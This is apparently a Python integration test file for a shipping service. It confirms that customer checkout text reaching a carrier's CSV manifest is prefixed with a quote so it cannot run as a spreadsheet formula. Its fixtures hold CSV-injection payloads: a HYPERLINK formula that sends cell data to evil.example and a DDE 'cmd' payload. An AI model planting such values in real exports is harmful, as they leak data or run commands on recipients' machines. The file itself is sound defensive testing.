"""A customer's checkout text reaches the carrier's spreadsheet as text, never as a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

from sqlalchemy import Engine
from sqlalchemy.orm import Session, sessionmaker

from service.cli import main
from service.shipping.manifest import ManifestLine, manifest_csv
from tests.integration.carriers.conftest import pack

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(A1:A9)"


def test_a_closed_day_manifest_quotes_formula_cells_from_checkout_text(
    service_db: tuple[str, Engine],
    sessions: sessionmaker[Session],
    make_order: Callable[..., int],
    tmp_path: Path,
) -> None:
    url, _engine = service_db
    oid = make_order(ship_name=HYPERLINK, ship_city=CMD, ship_postcode=SUM)
    (tracking,) = pack(sessions, oid, [1250])
    out = tmp_path / "out"
    out.mkdir()
    args = ["dispatch", "close", "--carrier", "house", "--out", str(out), "--db", url]
    assert main([*args, "--no-publish"]) == 0
    (csv_file,) = out.glob("manifest-house-*.csv")
    (row,) = csv.DictReader(io.StringIO(csv_file.read_text()))
    assert row["recipient"] == "'" + HYPERLINK
    assert row["city"] == "'" + CMD
    assert row["postcode"] == "'" + SUM
    # Ordinary cells are written exactly as before.
    assert row["tracking_number"] == tracking and row["weight_grams"] == "1250"
    assert row["country"] == "DE"


def test_every_formula_start_owasp_names_is_quoted_and_plain_text_is_not() -> None:
    starts = ["=1+1", "+1", "-1+2", "@A1", "\tTAB", "\rCR"]
    lines = [
        ManifestLine("ORD-1", 1, 1, "PB1", None, text, "10115", "Berlin", "DE") for text in starts
    ]
    lines.append(ManifestLine("ORD-2", 1, 1, "PB2", 800, "Ada = Lovelace", "1+1", "Köln", "DE"))
    rows = list(csv.reader(io.StringIO(manifest_csv(lines).decode("utf-8"), newline="")))
    assert [r[5] for r in rows[1:-1]] == ["'" + s for s in starts]
    assert rows[-1] == [
        "ORD-2",
        "1",
        "1",
        "PB2",
        "800",
        "Ada = Lovelace",
        "1+1",
        "Köln",
        "DE",
        "",
        "",
    ]
    assert rows[1][4] == ""  # no weight: an empty cell, not "None"
